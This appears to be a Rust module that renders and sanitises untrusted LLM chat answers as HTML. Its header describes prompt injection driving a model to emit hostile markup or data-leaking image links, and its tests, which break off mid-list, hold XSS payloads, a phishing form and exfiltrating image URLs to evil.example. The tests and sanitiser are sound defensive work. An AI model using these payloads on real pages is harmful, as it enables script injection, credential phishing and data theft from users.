//! Markdown rendering for chat answers. The local model's answers are
//! untrusted text (a document the model was asked to read can prompt-inject
//! it into writing whatever markup an attacker wants), yet the chat page
//! shows them as HTML, so this module is an XSS boundary. It works in two
//! stages, in this order. First the Markdown is rendered with pulldown-cmark
//! while its event stream is rewritten: raw HTML becomes visible text, links
//! with a scheme other than http, https or mailto lose their link, and images
//! become text so that nothing is fetched. Then the *final* HTML is sanitised
//! with ammonia against a tight allow-list. The order matters: sanitising the
//! Markdown source and rendering it afterwards (Open WebUI's stored-XSS CVE)
//! lets the renderer create markup the sanitiser never saw. The page also has
//! a strict CSP (`img-src 'self' data:`, no inline script), but the sanitiser
//! is configured to be safe on its own, even if the rewriting stage had a bug.
//! The chat page re-renders the whole accumulated answer as tokens stream in,
//! so partial Markdown (an unclosed fence, half a table) must render sensibly,
//! and input is capped so a runaway model cannot make rendering slow.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{
    Alignment, CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd,
};

/// Inputs longer than this are truncated: rendering is linear, but the chat
/// page re-renders on every token, so the cost must stay bounded.
const MAX_INPUT_BYTES: usize = 200_000;

/// Deepest element nesting kept. html5ever (inside ammonia) does work
/// proportional to the depth of the open elements for every element, so
/// sanitising is quadratic in nesting depth: 200 kB of `>` (100,000 nested
/// blockquotes) took minutes. Tags nested deeper than this are dropped and
/// their content kept; no real answer nests this deep.
const MAX_NESTING: usize = 32;

/// Appended to truncated input so the reader can tell something is missing.
const TRUNCATION_MARK: &str = "…";

/// Longest code-block language kept as a class; real names are short.
const MAX_LANGUAGE_LEN: usize = 32;

/// The only URL schemes a link may have (relative URLs have none).
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Every link opens in a new tab that can neither reach back into the chat
/// page (`noopener`) nor learn its address (`noreferrer`), and lends no
/// ranking to a site the model chose (`nofollow`).
const LINK_REL: &str = "noopener noreferrer nofollow";

/// `text` as Markdown that renders as exactly that text: every ASCII
/// punctuation character is backslash-escaped, so a name like
/// `Policies [Reset](http://evil)` cannot become a link, emphasis or HTML.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Renders untrusted Markdown (model output) to safe HTML.
pub fn render(markdown: &str) -> String {
    let markdown = cap_input(markdown);
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    options.insert(Options::ENABLE_TASKLISTS);

    let mut rewriter = Rewriter::default();
    let mut events = Vec::new();
    for event in Parser::new_ext(&markdown, options) {
        rewriter.push(event, &mut events);
    }

    let mut limit = NestingLimit::default();
    let mut html = String::with_capacity(markdown.len() + markdown.len() / 2);
    pulldown_cmark::html::push_html(
        &mut html,
        events.into_iter().filter(|event| limit.keep(event)),
    );
    sanitize(&html)
}

/// Truncates over-long input at a character boundary and marks the cut.
fn cap_input(markdown: &str) -> Cow<'_, str> {
    if markdown.len() <= MAX_INPUT_BYTES {
        return Cow::Borrowed(markdown);
    }
    let end = markdown.floor_char_boundary(MAX_INPUT_BYTES);
    let kept = markdown.get(..end).unwrap_or_default();
    let mut capped = String::with_capacity(kept.len() + TRUNCATION_MARK.len());
    capped.push_str(kept);
    capped.push_str(TRUNCATION_MARK);
    Cow::Owned(capped)
}

/// Rewrites pulldown-cmark's event stream before it becomes HTML.
///
/// Only this type may emit `Event::InlineHtml`, and only with static strings:
/// every `Html`/`InlineHtml` event that comes from the parser is turned into
/// text, so the model can never inject markup through this stage.
#[derive(Default)]
struct Rewriter {
    /// One entry per open link: whether its `<a>` was emitted, so that the
    /// matching end is emitted or dropped too.
    links: Vec<bool>,
    /// The image being turned into text, while inside `![...](...)`.
    image: Option<PendingImage>,
    /// The text of the raw HTML block being collected, while inside one.
    html_block: Option<String>,
    table: TableState,
}

struct PendingImage {
    /// Nesting depth: an image's description may itself contain images.
    depth: usize,
    url: String,
    alt: String,
}

/// pulldown-cmark writes table alignment as `style="text-align: …"`, which
/// the sanitiser drops (no `style` at all, so no CSS to audit); the cell tags
/// are written here instead, with the `align` attribute. (A row is padded
/// with empty cells to the header's width; pulldown-cmark itself caps that
/// padding, so a wide header over many short rows cannot blow up.)
#[derive(Default)]
struct TableState {
    alignments: Vec<Alignment>,
    in_head: bool,
    column: usize,
}

impl TableState {
    fn open_tag(&self) -> &'static str {
        let align = self
            .alignments
            .get(self.column)
            .copied()
            .unwrap_or(Alignment::None);
        match (self.in_head, align) {
            (true, Alignment::None) => "<th>",
            (true, Alignment::Left) => "<th align=\"left\">",
            (true, Alignment::Center) => "<th align=\"center\">",
            (true, Alignment::Right) => "<th align=\"right\">",
            (false, Alignment::None) => "<td>",
            (false, Alignment::Left) => "<td align=\"left\">",
            (false, Alignment::Center) => "<td align=\"center\">",
            (false, Alignment::Right) => "<td align=\"right\">",
        }
    }

    fn close_tag(&self) -> &'static str {
        if self.in_head { "</th>" } else { "</td>" }
    }
}

impl Rewriter {
    fn push<'a>(&mut self, event: Event<'a>, out: &mut Vec<Event<'a>>) {
        if let Some(image) = &mut self.image {
            // Inside an image everything is alt text; nothing is emitted until
            // the image ends.
            match event {
                Event::Start(Tag::Image { .. }) => image.depth += 1,
                Event::End(TagEnd::Image) => {
                    image.depth = image.depth.saturating_sub(1);
                    if image.depth == 0
                        && let Some(image) = self.image.take()
                    {
                        out.push(Event::Text(image_as_text(&image).into()));
                    }
                }
                Event::Text(text)
                | Event::Code(text)
                | Event::Html(text)
                | Event::InlineHtml(text)
                | Event::InlineMath(text)
                | Event::DisplayMath(text) => image.alt.push_str(&text),
                Event::SoftBreak | Event::HardBreak => image.alt.push(' '),
                _ => {}
            }
            return;
        }

        if let Some(block) = &mut self.html_block {
            match event {
                Event::End(TagEnd::HtmlBlock) => {
                    let block = std::mem::take(block);
                    self.html_block = None;
                    html_block_as_text(&block, out);
                }
                Event::Html(text) | Event::InlineHtml(text) | Event::Text(text) => {
                    block.push_str(&text);
                }
                _ => {}
            }
            return;
        }

        match event {
            // A single line break is kept: an e-mail's "Subject:", "Date:" and
            // "To:" lines, an address or a list without markers would otherwise
            // run together into one paragraph, which is never what a model
            // (or a person writing to one) means by a newline.
            Event::SoftBreak => out.push(Event::HardBreak),
            // Raw HTML is shown, not interpreted: silently dropping it would
            // hide from the user that the model tried to emit markup.
            Event::Html(text) | Event::InlineHtml(text) => out.push(Event::Text(text)),
            Event::Start(Tag::HtmlBlock) => self.html_block = Some(String::new()),
            Event::Start(Tag::Image { dest_url, .. }) => {
                self.image = Some(PendingImage {
                    depth: 1,
                    url: dest_url.into_string(),
                    alt: String::new(),
                });
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                // Email autolinks carry the bare address; the HTML writer
                // adds `mailto:` itself.
                let keep = link_type == LinkType::Email || is_allowed_url(&dest_url);
                self.links.push(keep);
                if keep {
                    out.push(Event::Start(Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }));
                }
            }
            Event::End(TagEnd::Link) => {
                if self.links.pop().unwrap_or(false) {
                    out.push(event);
                }
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) => {
                // An empty info string makes the writer emit a bare `<code>`.
                let language = code_language(&info).unwrap_or_default();
                out.push(Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(
                    CowStr::from(language),
                ))));
            }
            Event::Start(Tag::Table(alignments)) => {
                self.table = TableState {
                    alignments,
                    ..TableState::default()
                };
                // No alignments for the writer, so it adds no `style`.
                out.push(Event::Start(Tag::Table(Vec::new())));
            }
            Event::Start(Tag::TableHead) => {
                self.table.in_head = true;
                self.table.column = 0;
                out.push(event);
            }
            Event::End(TagEnd::TableHead) => {
                self.table.in_head = false;
                out.push(event);
            }
            Event::Start(Tag::TableRow) => {
                self.table.column = 0;
                out.push(event);
            }
            Event::Start(Tag::TableCell) => {
                out.push(Event::InlineHtml(self.table.open_tag().into()));
            }
            Event::End(TagEnd::TableCell) => {
                out.push(Event::InlineHtml(self.table.close_tag().into()));
                self.table.column += 1;
            }
            other => out.push(other),
        }
    }
}

/// Drops start and end tags nested deeper than [`MAX_NESTING`], keeping
/// everything between them, so the HTML handed to ammonia stays shallow.
#[derive(Default)]
struct NestingLimit {
    /// One entry per open tag: whether it was kept.
    open: Vec<bool>,
    kept_depth: usize,
}

impl NestingLimit {
    fn keep(&mut self, event: &Event<'_>) -> bool {
        match event {
            Event::Start(_) => {
                let keep = self.kept_depth < MAX_NESTING;
                self.open.push(keep);
                if keep {
                    self.kept_depth += 1;
                }
                keep
            }
            Event::End(_) => {
                let keep = self.open.pop().unwrap_or(false);
                if keep {
                    self.kept_depth = self.kept_depth.saturating_sub(1);
                }
                keep
            }
            _ => true,
        }
    }
}

/// Shows a raw HTML block as a paragraph of text, one line per line, so
/// that the user sees exactly the markup the model wrote.
fn html_block_as_text<'a>(block: &str, out: &mut Vec<Event<'a>>) {
    out.push(Event::Start(Tag::Paragraph));
    for (index, line) in block.lines().enumerate() {
        if index > 0 {
            out.push(Event::HardBreak);
        }
        out.push(Event::Text(line.to_owned().into()));
    }
    out.push(Event::End(TagEnd::Paragraph));
}

/// The text an image is replaced with. Loading a model-chosen image URL
/// would leak whatever the model put in it (`![x](https://evil/?q=secret)`),
/// so the URL is only shown, as text, and only if it would be an acceptable
/// link; `data:` and script URLs are not shown at all.
fn image_as_text(image: &PendingImage) -> String {
    let alt = image.alt.trim();
    let mut text = if alt.is_empty() {
        String::from("[image]")
    } else {
        format!("[image: {alt}]")
    };
    let url = image.url.trim();
    if !url.is_empty() && is_allowed_url(url) {
        text.push_str(" (");
        text.push_str(url);
        text.push(')');
    }
    text
}

/// Whether a link target is http, https, mailto or relative (including `#`
/// fragments). pulldown-cmark has already decoded entities such as
/// `java&#115;cript:`, so the check sees what the browser will see.
fn is_allowed_url(url: &str) -> bool {
    // Browsers remove tabs and newlines anywhere in a URL and ignore leading
    // control characters and spaces; removing all of them (and every space)
    // before looking for the scheme is at least as strict.
    let cleaned: String = url
        .chars()
        .filter(|c| !c.is_ascii_control() && *c != ' ')
        .collect();
    match cleaned.find([':', '/', '?', '#', '\\']) {
        // A colon before any path, query or fragment delimiter ends a scheme
        // (or something a browser might treat as one): it must be allowed.
        Some(index) if cleaned[index..].starts_with(':') => {
            let scheme = &cleaned[..index];
            LINK_SCHEMES
                .iter()
                .any(|allowed| scheme.eq_ignore_ascii_case(allowed))
        }
        // No scheme: a relative path, `//host`, `?query` or `#fragment`.
        _ => true,
    }
}

/// The language name of a fenced code block's info string, if it is safe
/// and plausible as a class name: lower-cased `[a-z0-9+#-]`, short.
fn code_language(info: &str) -> Option<String> {
    let language = info.split_whitespace().next()?.to_ascii_lowercase();
    is_language_name(&language).then_some(language)
}

fn is_language_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= MAX_LANGUAGE_LEN
        && name
            .bytes()
            .all(|b| matches!(b, b'a'..=b'z' | b'0'..=b'9' | b'+' | b'#' | b'-'))
}

/// The allow-list sanitiser, built once. It is deliberately complete by
/// itself: even raw hostile HTML passed through it comes out inert.
static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from([
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "input",
            "span",
        ]))
        // Removed with everything inside them rather than unwrapped, so no
        // script or stylesheet text shows up as page text.
        .clean_content_tags(HashSet::from(["script", "style", "template", "noscript"]))
        // No `id`, `name`, `class`, `style` or `on*` anywhere: only what is
        // listed per tag below. `rel` and `target` are set, not accepted.
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("code", HashSet::from(["class"])),
            ("th", HashSet::from(["align"])),
            ("td", HashSet::from(["align"])),
            ("ol", HashSet::from(["start"])),
            ("input", HashSet::from(["checked"])),
        ]))
        .set_tag_attribute_value("a", "target", "_blank")
        // Whatever an `<input>` claimed to be, it becomes an inert checkbox:
        // a text field could be used to phish for a password.
        .set_tag_attribute_value("input", "type", "checkbox")
        .set_tag_attribute_value("input", "disabled", "")
        .link_rel(Some(LINK_REL))
        .url_schemes(HashSet::from(LINK_SCHEMES))
        .url_relative(UrlRelative::PassThrough)
        .strip_comments(true)
        .id_prefix(None)
        .attribute_filter(filter_attribute);
    builder
});

fn sanitize(html: &str) -> String {
    SANITIZER.clean(html).to_string()
}

/// Value checks for the attributes that are allowed but not free-form.
fn filter_attribute<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    let keep = match (element, attribute) {
        ("code", "class") => value
            .strip_prefix("language-")
            .is_some_and(is_language_name),
        ("th" | "td", "align") => matches!(value, "left" | "center" | "right"),
        ("ol", "start") => {
            !value.is_empty() && value.len() <= 9 && value.bytes().all(|b| b.is_ascii_digit())
        }
        _ => true,
    };
    keep.then_some(Cow::Borrowed(value))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    /// What a rendered fragment must (or must not) contain.
    enum Expect {
        /// Present exactly (case-sensitive).
        Has(&'static str),
        /// Absent, compared case-insensitively.
        Lacks(&'static str),
    }
    use Expect::{Has, Lacks};

    /// Renders `input`, checks every expectation, and checks that the output
    /// is structurally safe (see [`assert_safe_html`]).
    fn check(input: &str, expectations: &[Expect]) {
        let html = render(input);
        verify(input, &html, expectations);
    }

    fn verify(input: &str, html: &str, expectations: &[Expect]) {
        let lower = html.to_ascii_lowercase();
        for expectation in expectations {
            match expectation {
                Has(fragment) => assert!(
                    html.contains(fragment),
                    "{input:?} rendered as {html:?}, which lacks {fragment:?}"
                ),
                Lacks(fragment) => assert!(
                    !lower.contains(&fragment.to_ascii_lowercase()),
                    "{input:?} rendered as {html:?}, which contains {fragment:?}"
                ),
            }
        }
        assert_safe_html(input, html);
    }

    /// One tag of serialised sanitiser output.
    struct ParsedTag {
        name: String,
        closing: bool,
        attributes: Vec<(String, String)>,
    }

    /// Splits sanitiser output into its tags. This only has to understand
    /// html5ever's serialisation: in text `<` is always written `&lt;`, and
    /// attribute values are always double-quoted with `"` escaped, so every
    /// `<` starts a real tag and a value ends at the next `"`.
    fn parse_tags(input: &str, html: &str) -> Vec<ParsedTag> {
        let mut tags = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            rest = &rest[start + 1..];
            let closing = rest.starts_with('/');
            let rest_trimmed = rest.strip_prefix('/').unwrap_or(rest);
            let name_len = rest_trimmed
                .find(|c: char| !c.is_ascii_alphanumeric())
                .unwrap_or(rest_trimmed.len());
            let name = rest_trimmed[..name_len].to_ascii_lowercase();
            assert!(!name.is_empty(), "{input:?}: bare '<' in {html:?}");
            rest = &rest_trimmed[name_len..];
            let mut attributes = Vec::new();
            loop {
                rest = rest.trim_start();
                if let Some(after) = rest.strip_prefix('>') {
                    rest = after;
                    break;
                }
                let attr_len = rest
                    .find(['=', ' ', '>'])
                    .unwrap_or_else(|| panic!("{input:?}: unterminated tag in {html:?}"));
                let attr = rest[..attr_len].to_ascii_lowercase();
                rest = &rest[attr_len..];
                let value = match rest.strip_prefix("=\"") {
                    Some(after) => {
                        let end = after
                            .find('"')
                            .unwrap_or_else(|| panic!("{input:?}: unquoted value in {html:?}"));
                        rest = &after[end + 1..];
                        after[..end].replace("&amp;", "&")
                    }
                    None => String::new(),
                };
                attributes.push((attr, value));
            }
            tags.push(ParsedTag {
                name,
                closing,
                attributes,
            });
        }
        tags
    }

    /// Every tag and attribute in `html` is on the allow-list, with a safe
    /// value; and the dangerous strings never appear in a tag.
    fn assert_safe_html(input: &str, html: &str) {
        for tag in parse_tags(input, html) {
            let allowed: &[&str] = match tag.name.as_str() {
                "p" | "br" | "hr" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "strong" | "em"
                | "del" | "pre" | "blockquote" | "ul" | "li" | "table" | "thead" | "tbody"
                | "tr" | "span" => &[],
                "a" => &["href", "title", "rel", "target"],
                "code" => &["class"],
                "th" | "td" => &["align"],
                "ol" => &["start"],
                "input" => &["type", "checked", "disabled"],
                other => panic!("{input:?}: tag <{other}> in {html:?}"),
            };
            for (attr, value) in &tag.attributes {
                assert!(
                    allowed.contains(&attr.as_str()),
                    "{input:?}: attribute {attr} on <{}> in {html:?}",
                    tag.name
                );
                let ok = match (tag.name.as_str(), attr.as_str()) {
                    ("a", "href") => href_is_safe(value),
                    ("a", "rel") => value == LINK_REL,
                    ("a", "target") => value == "_blank",
                    ("code", "class") => value
                        .strip_prefix("language-")
                        .is_some_and(is_language_name),
                    ("input", "type") => value == "checkbox",
                    _ => true,
                };
                assert!(ok, "{input:?}: {attr}={value:?} in {html:?}");
            }
            if tag.name == "a" && !tag.closing {
                let has = |name: &str| tag.attributes.iter().any(|(a, _)| a == name);
                assert!(
                    has("rel") && has("target"),
                    "{input:?}: bare <a> in {html:?}"
                );
            }
            if tag.name == "input" && !tag.closing {
                let has = |name: &str| tag.attributes.iter().any(|(a, _)| a == name);
                assert!(has("disabled"), "{input:?}: live <input> in {html:?}");
            }
        }
    }

    /// An independent check of a sanitised href: http, https, mailto or no
    /// scheme at all.
    fn href_is_safe(href: &str) -> bool {
        let lower = href.to_ascii_lowercase();
        if ["javascript:", "vbscript:", "data:", "file:"]
            .iter()
            .any(|bad| lower.contains(bad))
        {
            return false;
        }
        match lower.find([':', '/', '?', '#']) {
            Some(i) if lower[i..].starts_with(':') => {
                matches!(&lower[..i], "http" | "https" | "mailto")
            }
            _ => true,
        }
    }

    /// Issue 12: an e-mail's header lines ran together into one paragraph.
    #[test]
    fn single_line_breaks_are_kept() {
        let cases: &[(&str, &[Expect])] = &[
            (
                "Subject: Invoice 42\nDate: 3 Dec\nTo: Anna",
                &[Has("Subject: Invoice 42<br>\nDate: 3 Dec<br>\nTo: Anna")],
            ),
            // Paragraphs stay paragraphs; list items stay items.
            ("One\n\nTwo", &[Has("<p>One</p>\n<p>Two</p>"), Lacks("<br")]),
            ("- a\n- b", &[Has("<li>a</li>"), Lacks("<br")]),
            // Code keeps its own newlines, without <br>.
            ("```\nx\ny\n```", &[Has("x\ny"), Lacks("<br")]),
        ];
        for (input, expectations) in cases {
            check(input, expectations);
        }
    }

    #[test]
    fn raw_html_and_script_urls_are_inert() {
        let cases: &[(&str, &[Expect])] = &[
            (
                "<script>alert(1)</script>",
                &[
                    Lacks("<script"),
                    Has("&lt;script&gt;alert(1)&lt;/script&gt;"),
                ],
            ),
            (
                "Text <script>alert(1)</script> inline",
                &[Lacks("<script"), Has("Text &lt;script&gt;")],
            ),
            (
                "[x](javascript:alert(1))",
                &[Lacks("javascript:"), Lacks("<a"), Has("<p>x</p>")],
            ),
            (
                "[x](JaVaScRiPt:alert(1))",
                &[Lacks("javascript:"), Lacks("<a")],
            ),
            (
                "[x](  javascript:alert(1))",
                &[Lacks("javascript:"), Lacks("<a")],
            ),
            (
                "[x](<javascript:alert(1)>)",
                &[Lacks("javascript:"), Lacks("<a")],
            ),
            (
                "[x](java&#115;cript:alert(1))",
                &[Lacks("javascript"), Lacks("<a")],
            ),
            ("[x](java%73cript:alert(1))", &[Lacks("<a")]),
            ("[x](\u{1}javascript:alert(1))", &[Lacks("<a")]),
            (
                "[x][r]\n\n[r]: javascript:alert(1)",
                &[Lacks("javascript:"), Lacks("<a")],
            ),
            (
                "[x](vbscript:msgbox(1))",
                &[Lacks("vbscript:"), Lacks("<a")],
            ),
            (
                "[x](data:text/html,<script>alert(1)</script>)",
                &[Lacks("data:"), Lacks("<a")],
            ),
            ("[x](file:///etc/passwd)", &[Lacks("file:"), Lacks("<a")]),
            // An autolink with a bad scheme stays visible as plain text.
            (
                "<javascript:alert(1)>",
                &[Lacks("<a"), Has("<p>javascript:alert(1)</p>")],
            ),
            (
                "<a href=\"javascript:x\">y</a>",
                &[
                    Lacks("<a "),
                    Has("&lt;a href=\"javascript:x\"&gt;y&lt;/a&gt;"),
                ],
            ),
            (
                "<img src=x onerror=alert(1)>",
                &[Lacks("<img"), Has("&lt;img src=x onerror=alert(1)&gt;")],
            ),
            (
                "<iframe src=\"https://evil.example\"></iframe>",
                &[Lacks("<iframe"), Has("&lt;iframe")],
            ),
            (
                "<style>body{display:none}</style>",
                &[Lacks("<style"), Has("&lt;style&gt;")],
            ),
            (
                "<svg onload=alert(1)>",
                &[Lacks("<svg"), Has("&lt;svg onload=alert(1)&gt;")],
            ),
            (
                "<form action=\"https://evil.example\"><input type=text name=pw></form>",
                &[
                    Lacks("<form"),
                    Lacks("<input"),
                    Has("&lt;input type=text name=pw&gt;"),
                ],
            ),
            (
                "Hello <b onclick=x>world</b>",
                &[Lacks("<b"), Has("Hello &lt;b onclick=x&gt;world&lt;/b&gt;")],
            ),
            ("<!-- hidden -->", &[Has("&lt;!-- hidden --&gt;")]),
            (
                "<div>\n  <script>alert(1)</script>\n</div>\n\nafter",
                &[
                    Lacks("<div"),
                    Lacks("<script"),
                    Has(
                        "<p>&lt;div&gt;<br>\n  &lt;script&gt;alert(1)&lt;/script&gt;<br>\n&lt;/div&gt;</p>",
                    ),
                    Has("<p>after</p>"),
                ],
            ),
            (
                "```\"><script>alert(1)</script>\ncode\n```",
                &[Lacks("<script"), Has("<pre><code>code")],
            ),
            (
                "```rust\" onmouseover=\"alert(1)\ncode\n```",
                &[Lacks("onmouseover"), Has("<pre><code>code")],
            ),
            (
                "[x](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
                &[
                    Lacks(" onmouseover=\""),
                    Has("title=\"&quot; onmouseover=&quot;alert(1)\""),
                ],
            ),
        ];
        for (input, expectations) in cases {
            check(input, expectations);
        }
    }

    #[test]
    fn images_become_text() {
        let cases: &[(&str, &[Expect])] = &[
            (
                "![alt](https://evil.example/p.png?secret=1)",
                &[
                    Lacks("<img"),
                    Has("<p>[image: alt] (https://evil.example/p.png?secret=1)</p>"),
                ],
            ),
            (
                "![a](data:image/png;base64,AAAA)",
                &[Lacks("<img"), Lacks("data:"), Has("<p>[image: a]</p>")],
            ),
            (
                "![](https://e.example/x.png)",
                &[Lacks("<img"), Has("[image] (https://e.example/x.png)")],
            ),
            (
                "![x](javascript:alert(1))",
                &[Lacks("javascript:"), Has("<p>[image: x]</p>")],
            ),
            (
                "![a *b* `c`](/rel.png)",
                &[Lacks("<img"), Has("[image: a b c] (/rel.png)")],
            ),
            (
                "[![logo](https://e.example/l.png)](https://e.example)",
                &[
                    Lacks("<img"),
                    Has("<a href=\"https://e.example\""),
                    Has("[image: logo] (https://e.example/l.png)</a>"),
                ],
            ),
            (
                "![x][r]\n\n[r]: https://evil.example/?q=secret",
                &[
                    Lacks("<img"),
                    Has("[image: x] (https://evil.example/?q=secret)"),
                ],
            ),
            (
                "![<img src=x onerror=alert(1)>](x)",
                &[Lacks("<img"), Has("[image: &lt;img")],
            ),
        ];
        for (input, expectations) in cases {
            check(input, expectations);
        }
    }

    #[test]
    fn ordinary_answers_render() {
        let answer = "## Setup\n\n\
            Install it with **cargo** and run `cargo build`:\n\n\
            - first\n- *second*\n- ~~third~~\n\n\
            ```Rust\nfn main() { let v: Vec<u8> = vec![]; }\n```\n\n\
            | Name | Size |\n|:-----|-----:|\n| a | 1 |\n\n\
            > Quoted & noted.\n\n\
            See [the docs](https://example.com/docs?a=1&b=2 \"Docs\").\n\n\
            ---\n";
        check(
            answer,
            &[
                Has("<h2>Setup</h2>"),
                Has("<strong>cargo</strong>"),
                Has("<code>cargo build</code>"),
                Has("<ul>\n<li>first</li>"),
                Has("<li><em>second</em></li>"),
                Has("<li><del>third</del></li>"),
                Has(
                    "<pre><code class=\"language-rust\">fn main() { let v: Vec&lt;u8&gt; = vec![]; }",
                ),
                Has("<table><thead><tr><th align=\"left\">Name</th><th align=\"right\">Size</th>"),
                Has("<td align=\"left\">a</td><td align=\"right\">1</td>"),
                Has("<blockquote>\n<p>Quoted &amp; noted.</p>\n</blockquote>"),
                Has("<a href=\"https://example.com/docs?a=1&amp;b=2\" title=\"Docs\""),
                Has("rel=\"noopener noreferrer nofollow\""),
                Has("target=\"_blank\""),
                Has("<hr>"),
                Lacks("style="),
            ],
        );
        let cases: &[(&str, &[Expect])] = &[
            ("3. c\n4. d", &[Has("<ol start=\"3\">\n<li>c</li>")]),
            ("1. a\n2. b", &[Has("<ol>\n<li>a</li>")]),
            (
                "- [x] done\n- [ ] todo",
                // The order of ammonia's forced attributes varies between
                // runs, so they are checked one by one.
                &[
                    Has("<li><input checked=\"\" "),
                    Has("type=\"checkbox\""),
                    Has("disabled=\"\""),
                    Has(">\ndone</li>"),
                    Has("<li><input "),
                    Has(">\ntodo</li>"),
                ],
            ),
            (
                "[mail](mailto:a@b.example)",
                &[Has("<a href=\"mailto:a@b.example\"")],
            ),
            ("<a@b.example>", &[Has("<a href=\"mailto:a@b.example\"")]),
            (
                "<https://e.example/x>",
                &[Has("<a href=\"https://e.example/x\"")],
            ),
            ("[rel](docs/page.md)", &[Has("<a href=\"docs/page.md\"")]),
            ("[top](#top)", &[Has("<a href=\"#top\"")]),
            (
                "[http](HTTP://E.EXAMPLE/)",
                &[Has("<a href=\"HTTP://E.EXAMPLE/\"")],
            ),
            ("```c++\nx\n```", &[Has("<code class=\"language-c++\">")]),
            ("```c#\nx\n```", &[Has("<code class=\"language-c#\">")]),
            (
                "```objective-c extra words\nx\n```",
                &[Has("<code class=\"language-objective-c\">")],
            ),
            ("```{.python}\nx\n```", &[Has("<pre><code>x")]),
            ("```\nplain\n```", &[Has("<pre><code>plain")]),
            (
                "    indented <b>\n",
                &[Has("<pre><code>indented &lt;b&gt;")],
            ),
            ("line one  \nline two", &[Has("line one<br>\nline two")]),
            ("# H1\n###### H6", &[Has("<h1>H1</h1>"), Has("<h6>H6</h6>")]),
            (
                "# a {#id}\n\n<span id=x>",
                &[Lacks("<span"), Lacks("<h1 "), Has("&lt;span id=x&gt;")],
            ),
            (
                "Price: 5 < 6 & 7 > 3",
                &[Has("<p>Price: 5 &lt; 6 &amp; 7 &gt; 3</p>")],
            ),
        ];
        for (input, expectations) in cases {
            check(input, expectations);
        }
    }

    #[test]
    fn partial_markdown_while_streaming() {
        let cases: &[(&str, &[Expect])] = &[
            (
                "```python\nprint('hi')",
                &[Has("<pre><code class=\"language-python\">print('hi')")],
            ),
            ("```", &[Has("<pre><code>")]),
            ("```rus", &[Has("<pre><code class=\"language-rus\">")]),
            ("| a | b |\n| --", &[Has("<p>| a | b |<br>\n| --</p>")]),
            (
                "| a | b |\n|---|---|\n| 1 |",
                &[Has("<tr><td>1</td><td></td></tr>")],
            ),
            (
                "| a | b |\n|---|---|\n| 1 | 2",
                &[Has("<td>1</td><td>2</td>")],
            ),
            ("Some **bold", &[Has("<p>Some **bold</p>")]),
            ("a *b **c", &[Has("<p>a *b **c</p>")]),
            (
                "[link text](https://exa",
                &[Lacks("<a"), Has("[link text](https://exa")],
            ),
            (
                "![alt](https://evil.example/?q=se",
                &[Lacks("<img"), Has("![alt](https://evil.example/?q=se")],
            ),
            ("<scr", &[Has("&lt;scr")]),
            ("<script", &[Lacks("<script"), Has("&lt;script")]),
            ("- [", &[Has("<li>[</li>")]),
            ("> quote\n> - item\n>   ```", &[Has("<blockquote>")]),
            ("1. a\n   1.", &[Has("<ol>")]),
            ("", &[]),
            ("\u{0}", &[Lacks("\u{0}")]),
        ];
        for (input, expectations) in cases {
            check(input, expectations);
        }
        // Every prefix of a real answer renders without panicking.
        let answer = "## Plan\n\n| a | b |\n|:-:|--|\n| **x** | [y](https://e.example) |\n\n```rust\nlet x = 1;\n```\n\n- [x] ![i](https://e.example/i.png) <b>done</b>\n";
        for (index, _) in answer.char_indices() {
            check(&answer[..index], &[Lacks("<img"), Lacks("<b>")]);
        }
    }

    #[test]
    fn sanitiser_stands_on_its_own() {
        // Hostile HTML straight into the sanitiser, as if the Markdown stage
        // had let it through.
        let cases: &[(&str, &[Expect])] = &[
            (
                "<script>alert(1)</script>x",
                &[Lacks("<script"), Lacks("alert"), Has("x")],
            ),
            (
                "<img src=x onerror=alert(1)>",
                &[Lacks("<img"), Lacks("onerror")],
            ),
            (
                "<a href=\"javascript:alert(1)\" onclick=x id=y name=z style=\"color:red\">t</a>",
                &[
                    Lacks("javascript"),
                    Lacks("onclick"),
                    Lacks("id="),
                    Lacks("name="),
                    Lacks("style"),
                ],
            ),
            (
                "<a href=\" jAvAsCrIpT:alert(1)\">t</a>",
                &[Lacks("javascript")],
            ),
            ("<a href=\"data:text/html,x\">t</a>", &[Lacks("data:")]),
            (
                "<a href=\"https://e.example\" rel=opener target=_top>t</a>",
                &[
                    Has("rel=\"noopener noreferrer nofollow\""),
                    Has("target=\"_blank\""),
                    Lacks("opener\""),
                    Lacks("_top"),
                ],
            ),
            (
                "<input type=text name=pw>",
                &[
                    Has("type=\"checkbox\""),
                    Has("disabled"),
                    Lacks("text"),
                    Lacks("name"),
                ],
            ),
            (
                "<code class=\"language-rust evil\">x</code>",
                &[Lacks("class")],
            ),
            ("<code class=\"hidden\">x</code>", &[Lacks("class")]),
            (
                "<td align=\"middle\" style=\"x\">x</td>",
                &[Lacks("align"), Lacks("style")],
            ),
            (
                "<ol start=\"1e9\" type=a>",
                &[Lacks("start"), Lacks("type")],
            ),
            (
                "<iframe src=x></iframe><object data=x></object><embed src=x>",
